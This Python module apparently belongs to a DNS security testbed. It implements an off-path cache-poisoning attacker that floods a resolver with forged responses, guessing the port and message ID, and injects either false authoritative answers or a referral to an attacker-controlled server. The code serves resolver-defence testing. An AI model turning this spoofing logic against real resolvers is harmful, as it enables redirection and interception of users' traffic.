"""Races a server with answers in its name, guessing what only the server has seen."""

from collections.abc import Iterable, Iterator
from typing import Literal

import dns.flags
import dns.message
import dns.name
import dns.rdatatype
import dns.rrset
from pydantic import Field

from testbed.attack.api import Attacker, Capability, Moment, Parameters, Spoofed, SpoofedDatagram
from testbed.core.message import encode
from testbed.core.zone import Zone

PORT = 53
TTL = 3600
UNPRIVILEGED = 1024


class SpoofResponsesParameters(Parameters):
    """What is guessed, how often, and what the forged responses say."""

    server: str = Field("target", description="The role of the server in whose name it answers.")
    forge: Literal["answer", "referral"] = Field(
        "answer",
        description="answer: the attacker's address for what is asked. referral: the target zone is served "
        "by the attacker's server, which has another address for the sensitive name.",
    )
    guesses: int = Field(100, ge=1, le=4096, description="How many responses it sends for one question.")
    seconds: float = Field(
        0.1, ge=0, description="The time over which it spreads them, beginning with the question."
    )
    port: int = Field(
        0,
        ge=0,
        le=65535,
        description="The resolver's port as it guesses it; 0: the one that it was last seen to use by the "
        "attacker's own server, or any.",
    )
    ids: Literal["next", "any"] = Field(
        "next",
        description="Message IDs that it guesses. next: those after the one that the attacker's own server "
        "saw last, or any. any: at random.",
    )
    minimised: bool = Field(
        False, description="Whether it expects the server to be asked for no more of the name than it needs."
    )


class SpoofResponses(Attacker):
    """Sends responses in a server's name before the server does, and guesses port and message ID.

    It causes the question itself and so knows what is asked and when, but sees no query. Where an earlier
    question has led the resolver to the attacker's own server, it goes by what came in there.
    """

    capability = Capability.OFF_PATH
    source = "RFC 5452 sections 3 to 5; Kaminsky, Black Hat 2008"
    position = "no link"
    Parameters = SpoofResponsesParameters
    parameters: SpoofResponsesParameters

    def off_path(self, moment: Moment) -> Iterable[Spoofed]:
        """Guess, at even intervals."""
        if not moment.name.is_subdomain(self.scene.target_zone):
            return
        self.matched()
        chosen = self.parameters
        response = self._response(moment)
        for number, (source, target, identifier) in enumerate(self._guesses(moment)):
            response.id = identifier
            after = chosen.seconds * (number + 1) / (chosen.guesses + 1)
            yield SpoofedDatagram(source, target, encode(response), after)

    def _guesses(self, moment: Moment) -> Iterator[tuple[tuple[str, int], tuple[str, int], int]]:
        """From where, to where and with which message ID each response goes."""
        chosen, rng = self.parameters, self.scene.rng
        last = moment.arrivals[-1] if moment.arrivals else None
        addresses = [
            address
            for address in self.scene.server_addresses[chosen.server]
            if last is None or (":" in address) == (":" in last.source[0])
        ]
        for number in range(chosen.guesses):
            server = addresses[number % len(addresses)]
            resolver = self.scene.resolver_addresses[":" in server]
            port = chosen.port or (last.source[1] if last else rng.randrange(UNPRIVILEGED, 2**16))
            if chosen.ids == "next" and last is not None:
                identifier = (last.identifier + 1 + number // len(addresses)) % 2**16
            else:
                identifier = rng.getrandbits(16)
            yield (server, PORT), (resolver, port), identifier

    def _response(self, moment: Moment) -> dns.message.Message:
        """What it says, to the question as the server is asked it."""
        name, rdtype, zone = moment.name, moment.rdtype, self.scene.target_zone
        if self.parameters.minimised:
            served = self.scene.server_zones[self.parameters.server]
            name = name.split(min(len(served) + 1, len(name)))[1]
            rdtype = rdtype if name == moment.name else dns.rdatatype.A
        response = dns.message.make_response(dns.message.make_query(name, rdtype))
        if self.parameters.forge == "referral":
            servers = dns.rrset.from_text(zone, TTL, "IN", "NS", str(self.scene.own_name))
            response.authority.append(servers)
            return response
        response.flags |= dns.flags.AA
        address = self.scene.own_address(rdtype)
        if address is not None:
            response.answer.append(dns.rrset.from_text(name, TTL, "IN", rdtype, address))
        return response

    def serves(self) -> Iterable[Zone]:
        """The target zone, where the resolver is referred to the attacker's server for it."""
        if self.parameters.forge == "referral":
            zone = self.scene.zones[self.scene.target_zone]
            yield Zone(zone.origin, (self._served(rrset) for rrset in zone))

    def _served(self, rrset: dns.rrset.RRset) -> dns.rrset.RRset:
        return self.scene.led_away(rrset) if rrset.name == self.scene.sensitive_name else rrset
